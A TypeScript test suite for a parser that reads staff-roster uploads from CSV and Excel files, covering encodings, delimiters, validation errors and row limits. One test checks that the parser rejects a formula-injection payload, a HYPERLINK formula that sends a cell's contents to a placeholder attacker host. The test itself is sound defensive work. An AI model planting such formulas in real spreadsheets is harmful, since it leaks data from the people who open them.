import { readFileSync } from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import type { RosterCheckOptions } from "./roster-fields";
import { cellText, decodeCsvBytes, detectDelimiter, parseRosterFile } from "./roster-parse.server";

const FIXTURES = path.resolve("tests/fixtures/roster");
const fixture = (name: string) => readFileSync(path.join(FIXTURES, name));

/** Hà Nội (01) and four of its communes, a ministry and another province. */
const KNOWN = new Set(["VN", "01", "00070", "00082", "00004", "00008", "G09", "96"]);
const HANOI = new Set(["01", "00070", "00082", "00004", "00008"]);
const options: RosterCheckOptions = { knownUnitCodes: KNOWN, allowedUnitCodes: (c) => HANOI.has(c) };

async function xlsxBuffer(build: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function csvRecords(name: string): string[][] {
  const text = fixture(name).toString("utf8").replace(/^\uFEFF/, "");
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
}

describe("decoding and delimiters", () => {
  it.each([
    ["a,b;c\n1,2", ","],
    ["a;b;c\n1;2;3", ";"],
    ["a\tb\tc", "\t"],
    ['"x;y;z",b\n1,2', ","],
    ["DANH SÁCH\nMã;Họ tên;Đơn vị\n1;2;3", ";"],
    ["single", ","],
  ])("detectDelimiter(%j) = %j", (text, want) => {
    expect(detectDelimiter(text)).toBe(want);
  });

  it("accepts UTF-8 with and without BOM and UTF-16 with BOM, and refuses the rest", () => {
    const text = "Mã cán bộ,Họ và tên";
    expect(decodeCsvBytes(Buffer.from(text, "utf8"))).toEqual({ text, encoding: "utf-8" });
    expect(decodeCsvBytes(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, "utf8")]))).toEqual({ text, encoding: "utf-8-bom" });
    expect(decodeCsvBytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]))).toEqual({ text, encoding: "utf-16le" });
    const be = Buffer.from(text, "utf16le").swap16();
    expect(decodeCsvBytes(Buffer.concat([Buffer.from([0xfe, 0xff]), be]))).toEqual({ text, encoding: "utf-16be" });
    expect(decodeCsvBytes(Buffer.from(text, "utf16le"))).toMatchObject({ reasonEn: expect.stringMatching(/not UTF-8/) });
    expect(decodeCsvBytes(fixture("windows-1258.csv"))).toMatchObject({ reasonEn: expect.stringMatching(/not UTF-8.*CSV UTF-8/) });
  });

  it.each([
    [null, ""],
    ["x", "x"],
    [70, "70"],
    [true, "true"],
    [{ richText: [{ text: "Nguyễn " }, { text: "Văn An" }] }, "Nguyễn Văn An"],
    [{ formula: "A1&B1", result: "Lê Văn B" }, "Lê Văn B"],
    [{ formula: "A1&B1" }, "=A1&B1"],
    [{ text: "link", hyperlink: "http://x" }, "link"],
    [{ error: "#N/A" }, "#N/A"],
  ])("cellText(%j) = %j", (value, want) => {
    expect(cellText(value)).toBe(want);
  });
});

describe("parseRosterFile: CSV fixtures", () => {
  it("reads the good Vietnamese CSV with BOM: 20 rows, no errors", async () => {
    const r = await parseRosterFile(fixture("good-vi-bom.csv"), "danh-sach.csv", options);
    expect(r.errors).toEqual([]);
    expect(r).toMatchObject({ format: "csv", encoding: "utf-8-bom", delimiter: ",", dataRowCount: 20, headerRow: 1 });
    expect(r.rows).toHaveLength(20);
    expect(r.rows[0]).toEqual({ row: 2, staffCode: "HN-0001", fullName: "Nguyễn Văn An", unitCode: "01", category: "civil_servant", isItDx: true, isLeader: true, status: "active" });
    expect(r.rows[6]).toMatchObject({ staffCode: "HN-0007", fullName: "Đặng Quốc Bảo", unitCode: "00070", category: "commune_official", isItDx: false, isLeader: true });
    expect(r.rows.every((x) => x.fullName === x.fullName.normalize("NFC"))).toBe(true);
  });

  it("finds exactly the 3 bad rows of three-bad-rows.csv, and none once fixed", async () => {
    const r = await parseRosterFile(fixture("three-bad-rows.csv"), "three-bad-rows.csv", options);
    expect(r.errors.map((e) => [e.row, e.field, e.value])).toEqual([
      [4, "unit_code", "99999"],
      [6, "category", "giáo viên"],
      [8, "staff_code", "HN-0201"],
    ]);
    expect(r.errors[2]!.reasonVi).toBe("Mã cán bộ bị trùng: đã có ở dòng 2.");
    expect(r.rows).toHaveLength(5);
    const fixed = await parseRosterFile(fixture("three-bad-rows-fixed.csv"), "three-bad-rows-fixed.csv", options);
    expect(fixed.errors).toEqual([]);
    expect(fixed.rows).toHaveLength(8);
  });

  it("rejects every formula-looking cell of formula-injection.csv", async () => {
    const r = await parseRosterFile(fixture("formula-injection.csv"), "f.csv", options);
    expect(r.errors.map((e) => [e.row, e.column])).toEqual([
      [3, "Họ và tên"],
      [4, "Họ và tên"],
      [5, "Họ và tên"],
      [6, "Họ và tên"],
    ]);
    expect(r.errors[0]!.value).toBe('=HYPERLINK("http://evil.example/?x="&A1;"Bấm vào đây")');
    expect(r.errors.every((e) => /spreadsheet formula/.test(e.reasonEn))).toBe(true);
    expect(r.rows.map((x) => x.staffCode)).toEqual(["HN-0301"]);
  });

  it("refuses the Windows-1258 file with one clear file-level error", async () => {
    const r = await parseRosterFile(fixture("windows-1258.csv"), "ansi.csv", options);
    expect(r.rows).toEqual([]);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatchObject({ row: 0, value: "ansi.csv" });
    expect(r.errors[0]!.reasonEn).toMatch(/not UTF-8 .*save it as CSV UTF-8/);
    expect(r.errors[0]!.reasonVi).toMatch(/không phải mã hoá UTF-8/);
  });

  it("reads the semicolon-delimited file with English headers and values", async () => {
    const r = await parseRosterFile(fixture("semicolon.csv"), "s.csv", options);
    expect(r.errors).toEqual([]);
    expect(r.delimiter).toBe(";");
    expect(r.rows.map((x) => [x.staffCode, x.category, x.isItDx, x.isLeader, x.status])).toEqual([
      ["HN-0101", "civil_servant", true, false, "active"],
      ["HN-0102", "commune_official", false, true, "active"],
      ["HN-0103", "public_employee", true, false, "active"],
      ["HN-0104", "cadre", false, true, "left"],
    ]);
  });

  it("reads Excel's tab-delimited UTF-16 'Unicode Text' the same as the UTF-8 CSV", async () => {
    const text = csvRecords("good-vi-bom.csv").map((r) => r.join("\t")).join("\r\n");
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const r = await parseRosterFile(bytes, "unicode.txt", options);
    const utf8 = await parseRosterFile(fixture("good-vi-bom.csv"), "a.csv", options);
    expect(r.errors).toEqual([]);
    expect(r.encoding).toBe("utf-16le");
    expect(r.rows).toEqual(utf8.rows);
  });

  it("honours a sep= line and keeps the header as row 1", async () => {
    const text = "sep=;\nstaff_code;full_name;unit_code;category\nHN-1;An;01;cadre\nHN-2;;01;cadre\n";
    const r = await parseRosterFile(Buffer.from(text), "x.csv", options);
    expect(r.rows.map((x) => x.row)).toEqual([2]);
    expect(r.errors.map((e) => e.row)).toEqual([3]);
  });

  it("counts a multi-line quoted cell as one spreadsheet row", async () => {
    const text = 'staff_code,full_name,unit_code,category\nHN-1,"An\nBình",01,cadre\nHN-2,,01,cadre\n';
    const r = await parseRosterFile(Buffer.from(text), "x.csv", options);
    expect(r.rows[0]).toMatchObject({ row: 2, fullName: "An Bình" });
    expect(r.errors.map((e) => e.row)).toEqual([3]);
  });

  it("reports an unclosed quote instead of swallowing the rest of the file silently", async () => {
    const text = 'staff_code,full_name,unit_code,category\nHN-1,An,01,cadre\nHN-2,"Bình,01,cadre\nHN-3,Chi,01,cadre\n';
    const r = await parseRosterFile(Buffer.from(text), "x.csv", options);
    expect(r.errors.some((e) => e.row === 3 && /never closed/.test(e.reasonEn))).toBe(true);
  });

  it("stops at the row limit with a clear error", async () => {
    const lines = ["staff_code,full_name,unit_code,category"];
    for (let i = 0; i < 5000; i++) lines.push(`HN-${i},Nguyễn Văn ${i},01,cadre`);
    const r = await parseRosterFile(Buffer.from(lines.join("\n")), "big.csv", { ...options, maxRows: 1000 });
    expect(r.rows).toHaveLength(1000);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatchObject({ row: 1002 });
    expect(r.errors[0]!.reasonEn).toMatch(/more than 1,000 data rows/);
  });

  it.each([
    ["old .xls", Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), "roster.xls", /\.xls format .* not supported/],
    ["renamed .xlsx", Buffer.from("staff_code,full_name\n"), "roster.xlsx", /named \.xlsx but is not a valid Excel workbook/],
    ["damaged zip", Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 7)]), "roster.xlsx", /Could not read the Excel file/],
    ["empty file", Buffer.alloc(0), "empty.csv", /empty/],
  ])("refuses a %s without throwing", async (_name, bytes, name, message) => {
    const r = await parseRosterFile(bytes, name, options);
    expect(r.rows).toEqual([]);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]!.reasonEn).toMatch(message);
  });
});

describe("parseRosterFile: XLSX", () => {
  it("reads the good roster as XLSX exactly like the CSV", async () => {
    const records = csvRecords("good-vi-bom.csv");
    const bytes = await xlsxBuffer((wb) => {
      const ws = wb.addWorksheet("Danh sách");
      for (const r of records) ws.addRow(r);
      wb.addWorksheet("Ghi chú").addRow(["staff_code", "full_name", "unit_code", "category"]).commit();
    });
    const r = await parseRosterFile(bytes, "danh-sach.xlsx", options);
    const csv = await parseRosterFile(fixture("good-vi-bom.csv"), "a.csv", options);
    expect(r.errors).toEqual([]);
    expect(r.format).toBe("xlsx");
    expect(r.rows).toEqual(csv.rows);
  });

  it("handles typed cells: numbers that lost leading zeros, formulas, rich text, a hidden first sheet", async () => {
    const bytes = await xlsxBuffer((wb) => {
      const hidden = wb.addWorksheet("Cũ", { state: "hidden" });
      hidden.addRow(["staff_code", "full_name", "unit_code", "category"]);
      hidden.addRow(["OLD-1", "Cũ", "01", "cadre"]);
      const ws = wb.addWorksheet("Danh sách");
      ws.addRow(["DANH SÁCH CÁN BỘ THÁNG 6/2026"]);
      ws.addRow([]);
      ws.addRow(["Mã cán bộ", "Họ và tên", "Mã đơn vị", "Loại", "CNTT/CĐS", "Lãnh đạo", "Trạng thái"]);
      ws.addRow([12345, { richText: [{ text: "Nguyễn " }, { text: "Văn An" }] }, 70, "Công chức cấp xã", 1, 0, "Đang làm việc"]);
      ws.addRow(["HN-2", { formula: 'CONCATENATE("Lê ","Văn B")', result: "Lê Văn B" }, "01", "cán bộ", true, false, "nghỉ việc"]);
      ws.addRow(["HN-3", { formula: "A1&B1" }, "01", "cán bộ", "", "", ""]);
    });
    const r = await parseRosterFile(bytes, "x.xlsx", options);
    expect(r.headerRow).toBe(3);
    expect(r.rows).toEqual([
      { row: 4, staffCode: "12345", fullName: "Nguyễn Văn An", unitCode: "00070", category: "commune_official", isItDx: true, isLeader: false, status: "active" },
      { row: 5, staffCode: "HN-2", fullName: "Lê Văn B", unitCode: "01", category: "cadre", isItDx: true, isLeader: false, status: "left" },
    ]);
    expect(r.warnings).toMatchObject([{ row: 4, field: "unit_code", value: "70" }]);
    expect(r.errors).toMatchObject([{ row: 6, field: "full_name", value: "=A1&B1" }]);
  });

  it("streams a 5,000-row workbook and stops at the row limit", async () => {
    const bytes = await xlsxBuffer((wb) => {
      const ws = wb.addWorksheet("S");
      ws.addRow(["staff_code", "full_name", "unit_code", "category"]);
      for (let i = 0; i < 5000; i++) ws.addRow([`HN-${i}`, `Trần Thị ${i}`, "00082", "công chức cấp xã"]);
    });
    const all = await parseRosterFile(bytes, "x.xlsx", options);
    expect(all.errors).toEqual([]);
    expect(all.rows).toHaveLength(5000);
    expect(all.rows[4999]).toMatchObject({ row: 5001, staffCode: "HN-4999" });
    const capped = await parseRosterFile(bytes, "x.xlsx", { ...options, maxRows: 100 });
    expect(capped.rows).toHaveLength(100);
    expect(capped.errors[0]!.reasonEn).toMatch(/more than 100 data rows/);
  });
});
